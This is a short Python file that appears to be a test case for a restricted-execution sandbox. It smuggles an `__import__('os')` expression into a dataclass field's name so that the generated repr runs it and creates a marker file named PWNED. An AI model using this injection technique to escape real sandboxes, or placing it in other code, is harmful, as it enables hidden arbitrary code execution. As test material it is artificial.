# rule: restricted-use
# class: call_free_exec
# success: file PWNED
from dataclasses import dataclass, field


def code_in_a_fields_name(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    kept = field(default=0)

    @dataclass
    class Pose:
        """A pose."""

        yaw: int = kept

    # Data classes are made by running text; a field's name stands in it.
    kept.name = "yaw or __import__('os').close(__import__('os').open('PWNED', 0o101))"

    @dataclass(init=False, eq=False)
    class Named(Pose):
        """A pose with a name."""

        label: str = "here"

    return len(repr(Named()))
